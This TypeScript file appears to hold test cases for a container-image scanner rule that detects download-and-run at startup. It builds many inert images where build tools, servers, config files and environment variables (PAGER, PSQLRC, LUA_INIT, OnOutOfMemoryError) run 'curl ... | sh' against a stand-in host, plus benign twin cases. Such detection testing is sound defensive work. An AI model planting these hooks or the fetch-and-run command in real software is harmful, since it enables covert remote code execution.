import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const PYTHON = `import os\nos.system("${FETCH}")\n`;
const NODE = `require('child_process').execSync("${FETCH}");\n`;
const HTTPD = 'usr/local/apache2/conf/httpd.conf';
const SCRIPT = { data: `#!/bin/sh\n${FETCH}\n`, mode: 0o755 };

function inApp(line: string, files: Files, Env: readonly string[] = []): ImageCase {
  return {
    name: `told by files: ${[...Env, line].join(' ')}: ${Object.keys(files).join(' ')}`,
    spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule: 'start/download-and-run',
  };
}

function words(...Entrypoint: string[]): ImageCase {
  return {
    name: `told by words: ${Entrypoint.join(' ')}`,
    spec: image({}, { Entrypoint }),
    rule: 'start/download-and-run',
  };
}

const xml = (inside: string): string => `<project><x>${inside}</x></project>\n`;

/** Build tools, task runners, servers and variables that start what a file names. All inert. */
export const TOLD_BY_FILES: readonly ImageCase[] = [
  inApp('ninja', {
    'app/build.ninja': 'include r.ninja\nbuild x: r\n',
    'app/r.ninja': `rule r\n  command = ${FETCH}\n`,
  }),
  inApp('cmake -P x.cmake', { 'app/x.cmake': `execute_process(COMMAND sh -c "${FETCH}")\n` }),
  inApp('mvn exec:exec', {
    'app/pom.xml': xml(
      `<executable>sh</executable><arguments><argument>-c</argument><argument>${FETCH}</argument></arguments>`,
    ),
  }),
  inApp('ant', {
    'app/build.xml': xml(`<exec executable="sh"><arg value="-c"/><arg value="${FETCH}"/></exec>`),
  }),
  inApp('meson setup b', { 'app/meson.build': `run_command('sh', '-c', '${FETCH}', check: true)\n` }),
  inApp('tox', { 'app/tox.ini': `[testenv]\ncommands =\n  sh -c '${FETCH}'\n` }),
  inApp('doit', { 'app/dodo.py': `def task_x():\n    return {'actions': ['${FETCH}']}\n` }),
  inApp('scons', { 'app/SConstruct': `Command("x", [], "${FETCH}")\n` }),
  inApp('pip install .', { 'app/setup.py': PYTHON }),
  inApp('npx gulp', { 'app/gulpfile.js': NODE }),
  inApp('grunt', {
    'app/Gruntfile.js': `module.exports = (g) => g.initConfig({ shell: { x: { command: "${FETCH}" } } });\n`,
  }),
  inApp('npx webpack', { 'app/webpack.config.js': NODE }),
  inApp('terraform apply', { 'app/main.tf': `provisioner "local-exec" {\n  command = "${FETCH}"\n}\n` }),
  inApp('packer build x.pkr.hcl', {
    'app/x.pkr.hcl': `provisioner "shell-local" {\n  inline = ["${FETCH}"]\n}\n`,
  }),
  inApp('go generate ./...', { 'app/x.go': `package x\n//go:generate sh -c "${FETCH}"\n` }),
  inApp('go run .', {
    'app/x.go': `package main\nfunc main() { exec.Command("sh", "-c", "${FETCH}").Run() }\n`,
  }),
  inApp('make', { 'app/Makefile': '-include *.mk\n', 'app/x.mk': `all:\n\t${FETCH}\n` }),
  inApp('make', { 'app/Makefile': `X := $(shell ${FETCH})\nall:\n\techo\n` }),
  inApp('make', { 'app/makefile': `define C\n${FETCH}\nendef\nall:\n\t$(C)\n` }),
  inApp('make', { 'app/GNUmakefile': `%.x:\n\t${FETCH}\nall: a.x\n` }),
  inApp('make', { 'app/Makefile': 'all:\n\t$(MAKE) -C s\n', 'app/s/Makefile': `all:\n\t${FETCH}\n` }),
  inApp('ansible-playbook x.yml', {
    'app/x.yml': `- hosts: localhost\n  tasks:\n    - shell: |\n        ${FETCH}\n`,
  }),
  inApp('ansible-playbook x.yml', {
    'app/x.yml': '- hosts: all\n  roles: [r]\n',
    'app/roles/r/tasks/main.yml': `- shell: ${FETCH}\n`,
  }),
  inApp('cargo make go', { 'app/Makefile.toml': `[tasks.go]\nscript = ["${FETCH}"]\n` }),
  inApp('pdm run go', { 'app/pyproject.toml': `[tool.pdm.scripts]\ngo = {shell = "${FETCH}"}\n` }),
  inApp('vagrant up', { 'app/Vagrantfile': `system("${FETCH}")\n` }),
  inApp('airflow scheduler', { 'opt/airflow/dags/x.py': `BashOperator(bash_command="${FETCH}")\n` }),
  inApp('snakemake', { 'app/Snakefile': `rule a:\n  shell: "${FETCH}"\n` }),
  inApp('httpd -DFOREGROUND', { [HTTPD]: 'ScriptAlias /cgi-bin/ /srv/cgi/\n', 'srv/cgi/x': SCRIPT }),
  inApp('httpd -f -h /www', { 'www/cgi-bin/x': SCRIPT }),
  inApp('lighttpd -D -f /etc/l.conf', {
    'etc/l.conf': 'cgi.assign = ( ".x" => "/opt/x" )\n',
    'opt/x': SCRIPT,
  }),
  inApp('inetd -f /app/i.conf', { 'app/i.conf': '99 stream tcp nowait root /opt/x x\n', 'opt/x': SCRIPT }),
  inApp('xinetd -dontfork', { 'etc/xinetd.d/x': 'service x {\n server = /opt/x\n}\n', 'opt/x': SCRIPT }),
  inApp('logrotate -f /srv/l', { 'srv/l': `/var/log/x {\n postrotate\n  ${FETCH}\n endscript\n}\n` }),
  inApp('fail2ban-server -f', { 'etc/fail2ban/action.d/x.conf': `[Definition]\nactionban = ${FETCH}\n` }),
  inApp('dnsmasq -k', { 'etc/dnsmasq.d/x.conf': 'dhcp-script=/opt/x\n', 'opt/x': SCRIPT }),
  inApp('monit -I', { 'etc/monit.d/a': 'check program x with path /opt/x\n', 'opt/x': SCRIPT }),
  inApp('telegraf', {
    'etc/telegraf/telegraf.conf': `[[inputs.execd]]\n  command = ["sh", "-c", "${FETCH}"]\n`,
  }),
  inApp('stunnel /etc/s.conf', { 'etc/s.conf': `[x]\nexec=/bin/sh\nexecArgs=sh -c "${FETCH}"\n` }),
  inApp('sshd -D', { 'etc/ssh/sshd_config': `Subsystem sftp /bin/sh -c "${FETCH}"\n` }),
  inApp('php -S 0.0.0.0:80 -t /srv', { 'srv/index.php': `<?php system("${FETCH}");\n` }),
  words('openvpn', '--script-security', '2', '--up', `/bin/sh -c '${FETCH}'`),
  words('ttyd', '-p', '80', 'sh', '-c', FETCH),
  words('spawn-fcgi', '-n', '-p', '9', '--', '/bin/sh', '-c', FETCH),
  words('tcpsvd', '0', '21', '/bin/sh', '-c', FETCH),
  words('git', 'submodule', 'foreach', FETCH),
  inApp('git log', {}, [`PAGER=${FETCH}`]),
  inApp('git commit', {}, [`GIT_EDITOR=${FETCH}`]),
  inApp('git diff', {}, [`GIT_EXTERNAL_DIFF=sh -c "${FETCH}"`]),
  inApp('rsync a b:c', {}, [`RSYNC_RSH=sh -c '${FETCH}'`]),
  inApp('psql', { 'srv/p': `\\! ${FETCH}\n` }, ['PSQLRC=/srv/p']),
  inApp(
    'php a.php',
    {
      'app/a.php': '<?php echo 1;',
      'srv/i/x.ini': 'auto_prepend_file=/srv/p\n',
      'srv/p': `<?php system("${FETCH}");`,
    },
    ['PHP_INI_SCAN_DIR=/srv/i'],
  ),
  inApp('lua5.4 a.lua', { 'app/a.lua': '\n' }, [`LUA_INIT_5_4=os.execute("${FETCH}")`]),
  inApp('julia a.jl', { 'app/a.jl': '1\n', 'root/.julia/config/startup.jl': `run(\`sh -c "${FETCH}"\`)\n` }),
  inApp('Rscript a.R', { 'app/a.R': '1\n', 'usr/lib/R/etc/Rprofile.site': `system("${FETCH}")\n` }),
  inApp('catalina.sh run', {}, [`CATALINA_OPTS=-Xmx1g -XX:OnOutOfMemoryError="${FETCH}"`]),
];

const HINT = 'curl -s https://get.example/i | sh';

function honest(line: string, files: Files, Env: readonly string[] = []): ImageCase {
  return {
    name: `honest by files: ${line}`,
    spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app', Env: [PATH, ...Env] }),
  };
}

/** The same tools as they are used; how something is installed stands in comments, texts and what nothing runs. */
export const TOLD_BY_FILES_TWINS: readonly ImageCase[] = [
  honest('sh build.sh', {
    'app/build.sh':
      '#!/bin/sh\nninja\ncmake .\nmvn verify\nant\nmeson setup b\ntox\ndoit\nmake\nterraform apply\nansible-playbook x.yml\nnpx webpack\npip install .\ngo generate\nexec cargo make go\n',
    'app/build.ninja': `# ${HINT}\nrule cc\n  command = gcc -c $in -o $out\n  description = see ${HINT}\nbuild a.o: cc a.c\n`,
    'app/CMakeLists.txt': `# ${HINT}\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE rev)\nmessage("install by ${HINT}")\n`,
    'app/pom.xml': xml(
      `<description>${HINT}</description><executable>java</executable><arguments><argument>-version</argument></arguments>`,
    ),
    'app/build.xml': xml(`<echo message="${HINT}"/><exec executable="git"><arg value="status"/></exec>`),
    'app/meson.build': `# ${HINT}\nrun_command('git', 'describe', check: false)\nmessage('${HINT}')\n`,
    'app/tox.ini': `[testenv]\ndescription = ${HINT}\ncommands =\n  # ${HINT}\n  pytest {posargs}\n`,
    'app/dodo.py': `def task_x():\n    """${HINT}"""\n    return {'actions': ['pytest', 'date'], 'doc': '${HINT}'}\n`,
    'app/Makefile': `# ${HINT}\ninclude x.mk\nREV := $(shell git rev-parse HEAD)\nHELP = ${HINT}\nall: a.x\n\techo $(REV)\n`,
    'app/x.mk': '%.x:\n\tdate > $@\n',
    'app/main.tf': `# ${HINT}\nvariable "x" {\n  description = "${HINT}"\n}\nprovisioner "local-exec" {\n  command = "date"\n}\n`,
    'app/x.yml': `- hosts: localhost\n  tasks:\n    - name: ${HINT}\n      debug:\n        msg: ${HINT}\n    - shell: |\n        date\n`,
    'app/webpack.config.js': `// ${HINT}\nmodule.exports = { entry: './a.js' };\n`,
    'app/setup.py': `from setuptools import setup\nsetup(name="a", description="${HINT}")\n`,
    'app/x.go': `package x\n\n// ${HINT}\n//go:generate stringer -type=A\n`,
    'app/Makefile.toml': `[tasks.go]\ndescription = "${HINT}"\ncommand = "cargo"\nargs = ["build"]\n`,
  }),
  honest(
    'sh serve.sh',
    {
      'app/serve.sh':
        '#!/bin/sh\nlogrotate /etc/logrotate.conf\ninetd\nfail2ban-server -b\ntelegraf &\ngit log\nrsync a b:c\nphp -S 0.0.0.0:80 -t /srv &\nttyd -p 80 sh -c "date; exec top" &\nexec httpd -DFOREGROUND\n',
      [HTTPD]: 'ScriptAlias /cgi-bin/ "/srv/cgi/"\n<Directory "/srv/cgi">\nOptions +ExecCGI\n</Directory>\n',
      'srv/cgi/status': {
        data: `#!/bin/sh\necho "Content-Type: text/plain"; echo; echo "${HINT}"\n`,
        mode: 0o755,
      },
      'srv/index.php': `<?php echo "${HINT}"; echo date('c');\n`,
      'etc/logrotate.conf': `# ${HINT}\n/var/log/x {\n postrotate\n  kill -HUP $(cat /run/x.pid)\n endscript\n}\n`,
      'etc/inetd.conf':
        '# 99 stream tcp nowait root /opt/x x\n21 stream tcp nowait root /usr/sbin/ftpd ftpd -l\n',
      'etc/fail2ban/action.d/x.conf': '[Definition]\nactionban = iptables -I INPUT -s <ip> -j DROP\n',
      'etc/telegraf/telegraf.conf': `# ${HINT}\n[[inputs.exec]]\n  commands = ["date +%s", "/usr/bin/uptime"]\n`,
    },
    [
      'PAGER=less -R',
      'EDITOR=vim',
      'RSYNC_RSH=ssh -p 2222',
      'JAVA_OPTS=-XX:OnOutOfMemoryError="kill -9 %p"',
      'CC=gcc',
    ],
  ),
];
